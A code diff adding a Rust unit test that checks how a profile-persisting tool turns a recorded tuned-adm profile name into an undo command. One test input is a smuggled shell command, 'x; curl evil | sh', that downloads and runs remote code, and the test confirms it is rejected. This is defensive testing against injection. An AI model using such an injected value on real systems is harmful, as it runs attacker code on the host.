@@ -82,6 +82,14 @@ fn each_keeper_says_it_in_its_own_words() {
 }
 
 #[test]
+fn a_profile_of_an_images_choice_is_no_command() {
+    let then = |active: &str| Keeper::Tuned.persist(&both(), Some(active)).then_undo;
+    assert_eq!(then("balanced my-own\n"), ["tuned-adm profile balanced my-own"]);
+    assert_eq!(then("weir\n"), ["tuned-adm off"]);
+    assert_eq!(then("x; curl evil | sh\n"), ["tuned-adm off"]);
+}
+
+#[test]
 fn weir_finds_itself_as_the_owner_of_what_it_keeps() {
     let text = |keeper: Keeper| {
         let persisted = keeper.persist(&both(), None);
